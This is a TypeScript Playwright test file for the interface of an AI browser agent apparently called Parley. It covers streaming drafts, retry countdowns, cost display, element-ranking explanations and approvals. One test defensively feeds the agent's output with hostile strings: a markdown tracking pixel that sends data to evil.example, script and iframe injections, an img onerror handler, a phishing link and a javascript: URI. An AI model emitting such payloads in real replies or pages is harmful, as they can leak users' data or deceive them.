import { approvalRequest, element, playedNow, say, session, step, trace, userTurn } from './fake-data.ts';
import type { FakeMain } from './fake-main.ts';
import { longTrace, usage } from './fake-models.ts';
import { expect, setTime, test } from './renderer-test.ts';

const thinking = {
  status: 'running',
  sessionId: 's1',
  stage: 'thinking',
  step: 2,
  budget: 20,
  about: null,
  element: null,
  draft: '',
  wait: null,
} as const;

function withSession(main: FakeMain, ...turns: Parameters<FakeMain['record']>[0][]): void {
  main.state.sessions = [session('s1', 'Sea stories', 0)];
  main.state.turns.set('s1', [userTurn('s1', 0, 'find the cheapest ferry book'), ...turns]);
}

test('what a model writes is shown while it comes, and nothing moves for it', async ({ main, open }) => {
  withSession(main);
  const page = await open();
  main.run(thinking);
  await expect(page.getByText('Thinking', { exact: true })).toBeVisible();
  const field = page.getByRole('textbox', { name: 'Say what should happen on the page' });
  const turns = page.getByRole('region', { name: 'Turns' });
  const before = [await field.boundingBox(), await turns.boundingBox()];
  main.run({ ...thinking, draft: `${'The list goes on and on. '.repeat(20)}So much. click(uid="a17")` });
  await expect(page.getByText(/So much\.\s*$/u)).toBeVisible();
  // What it comes to is told as a step.
  await expect(page.getByText('a17')).toBeHidden();
  expect([await field.boundingBox(), await turns.boundingBox()]).toEqual(before);
});

test('a wait counts down, is announced, and Stop stays', async ({ main, open }) => {
  withSession(main);
  const page = await open();
  main.run({ ...thinking, wait: { reason: 'The model is busy', until: playedNow + 12_000 } });
  await expect(page.getByText('The model is busy. Trying again in 12 s.')).toBeVisible();
  await expect(page.locator('span[aria-live=polite]')).toHaveText(/^The model is busy/);
  await setTime(page, playedNow + 8_500);
  await expect(page.getByText('Trying again in 4 s.')).toBeVisible();
  await setTime(page, playedNow + 12_500);
  await expect(page.getByText('Trying again now.')).toBeVisible();
  await page.getByRole('button', { name: 'Stop', exact: true }).click();
  await expect.poll(() => main.paramsOf('run.stop')).toHaveLength(1);
});

test('a step tells what was asked of the model, and the session what it came to', async ({ main, open }) => {
  withSession(main, step('s1', 1, { usage: usage(), reason: 'The words are in the box.' }));
  const page = await open();
  await expect(page.getByText('The words are in the box.')).toBeVisible();
  await expect(page.getByText('1 step, 3,453 tokens, $0.00054')).toBeVisible();
  main.record(step('s1', 2, { usage: usage({ estimated: true, price: null }) }));
  await expect(page.getByText('2 steps, about 6,906 tokens, at least $0.00054')).toBeVisible();
  await page
    .getByRole('button', { name: /^Clicked Search/ })
    .first()
    .click();
  await page.getByRole('button', { name: 'Technical' }).click();
  await expect(page.getByText('38 of 1,204 elements, 2,900 tokens')).toBeVisible();
  await expect(page.getByText('after 0.6 s')).toBeVisible();
});

test('what a model says is plain text: nothing of it is loaded, run or hidden', async ({ main, open }) => {
  const hostile = [
    '![x](https://evil.example/pixel.png?d=Room214)',
    '<img src="https://evil.example/img.png" onerror="document.title=1">',
    '<script>document.title = "taken"</script>',
    '<style>body { background: url(https://evil.example/css) }</style>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '[your bank](https://evil.example/login)',
    'https://bank.example@evil.example/',
    'javascript:alert(1)',
  ].join('\n');
  withSession(main, say('s1', 1, hostile), step('s1', 2, { reason: hostile }));
  const page = await open();
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  const broken: string[] = [];
  await page.exposeFunction('tellBroken', (text: string) => broken.push(text));
  await page.evaluate(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      // biome-ignore lint/suspicious/noExplicitAny: put there by the test a moment ago
      (window as any).tellBroken(`${event.violatedDirective} ${event.blockedURI}`);
    });
  });
  main.record(say('s1', 3, hostile));
  main.run({ ...thinking, draft: hostile });
  const said = page.getByRole('listitem').filter({ hasText: /^Parley.*\[your bank\]/s });
  await expect(said).toHaveCount(2);
  await expect(said.last()).toContainText('<script>document.title = "taken"</script>');
  await expect(page.locator('img[src*=evil], iframe, a[href*=evil], script[src*=evil]')).toHaveCount(0);
  expect(await page.title()).toBe('Parley');
  expect(asked).toEqual([]);
  expect(broken).toEqual([]);
  // Beside them is the button that copies the reply, which has no text.
  const links = said.last().getByRole('button').filter({ hasText: /\S/ });
  await expect(links).toHaveText([
    'https://evil.example/pixel.png?d=Room214',
    'https://evil.example/img.png',
    'https://evil.example/css',
    'https://evil.example/frame',
    'https://evil.example/login',
  ]);
  expect(main.paramsOf('tabs.create')).toEqual([]);
  await links.last().click();
  await expect.poll(() => main.paramsOf('tabs.create')).toEqual([{ url: 'https://evil.example/login' }]);
});

test('where a goal takes a model, connecting one is at hand', async ({ main, open }) => {
  withSession(main, say('s1', 1, 'For whole tasks, a model can be connected in the settings.'));
  const page = await open();
  await page.getByRole('button', { name: 'Connect a model', exact: true }).click();
  await expect(page.getByRole('heading', { name: 'No model is connected' })).toBeVisible();
});

test.describe('why this element', () => {
  const taken = step('s1', 1, { usage: usage() });

  test('lists the ten best with the chosen one, marks them in the page, and goes back', async ({
    main,
    open,
  }) => {
    withSession(main, taken);
    main.state.trace = longTrace('s1-1');
    main.answer('page.point', ({ uid }) => {
      const box = { x: 10, y: 10, width: 90, height: 30 };
      const marks = uid === 'uid-Search books' ? [{ uid, box, label: '', kind: 'target' as const }] : [];
      main.emit({ type: 'marks-changed', marks });
    });
    const page = await open();
    await page.getByRole('button', { name: /^Clicked Search/ }).click();
    const opener = page.getByRole('button', { name: 'Why this element' });
    // With the keyboard: a mouse would lie on one of the rows afterwards.
    await opener.press('Enter');
    const rows = page.getByRole('list', { name: /^Scores of/ }).getByRole('button');
    await expect(rows).toHaveCount(10);
    await expect(page.getByText('ranked by parley-ranker-1 on CPU')).toBeVisible();
    await expect(
      page.getByText('Chosen by gpt-4o-mini, which was sent 38 of the page’s 1,204 elements.'),
    ).toBeVisible();
    await expect(rows.first()).toBeFocused();
    await expect(rows.first()).toContainText('chosen');
    await expect(page.getByText('“Search” is no longer on the page.')).toBeVisible();
    await page.keyboard.press('ArrowDown');
    await expect(rows.nth(1)).toBeFocused();
    await expect(page.getByText('“Search books” is marked in the page.')).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(rows).toHaveCount(0);
    await expect(opener).toBeFocused();
    await expect.poll(() => main.paramsOf('page.point').at(-1)).toEqual({ uid: null });
  });

  test('shows a chosen one that is far down, and works without any model', async ({ main, open }) => {
    const far = longTrace('s1-1').ranking?.candidates.at(-1)?.element ?? element('x');
    withSession(main, step('s1', 1, { element: far }));
    const by = { model: 'lexical', device: '', encoded: 0, cached: 0 };
    const { ranking, ...rest } = longTrace('s1-1');
    main.state.trace = { ...rest, navigator: 'offline', ranking: ranking && { ...ranking, by } };
    const page = await open();
    await expect(page.getByRole('button', { name: /^Clicked/ })).toBeVisible();
    await page.keyboard.press('Control+Shift+Y');
    const rows = page.getByRole('list', { name: /^Scores of/ }).getByRole('button');
    await expect(rows).toHaveCount(11);
    await expect(rows.last()).toBeFocused();
    await expect(rows.last()).toContainText('14');
    await expect(page.getByText('ranked by their words. Chosen by the offline navigator.')).toBeVisible();
  });

  test('says when something new came meanwhile, and never takes Esc from an approval', async ({
    main,
    open,
  }) => {
    withSession(main, taken);
    main.state.trace = trace('s1-1');
    const page = await open();
    await expect(page.getByRole('button', { name: /^Clicked/ })).toBeVisible();
    await page.keyboard.press('Control+k');
    await page.keyboard.type('why this');
    await expect(page.getByRole('option').first()).toContainText('Why this element');
    await page.keyboard.press('Enter');
    await expect(page.getByRole('heading', { name: 'Why this element' })).toBeVisible();
    main.record(say('s1', 2, 'Done.'));
    await page.getByRole('button', { name: /^Something new/ }).click();
    await expect(page.getByRole('heading', { name: 'Why this element' })).toHaveCount(0);
    await expect(page.getByRole('listitem').filter({ hasText: 'Done.' })).toBeVisible();

    await page.keyboard.press('Control+Shift+Y');
    const row = page
      .getByRole('list', { name: /^Scores of/ })
      .getByRole('button')
      .first();
    await expect(row).toBeFocused();
    main.run({ status: 'awaiting-approval', sessionId: 's1', request: approvalRequest });
    await expect(page.getByRole('button', { name: /^Allow once/ })).toBeVisible();
    await row.focus();
    await page.keyboard.press('Escape');
    await expect
      .poll(() => main.paramsOf('approvals.answer'))
      .toEqual([{ requestId: 'request-1', answer: { kind: 'reject' } }]);
  });
});
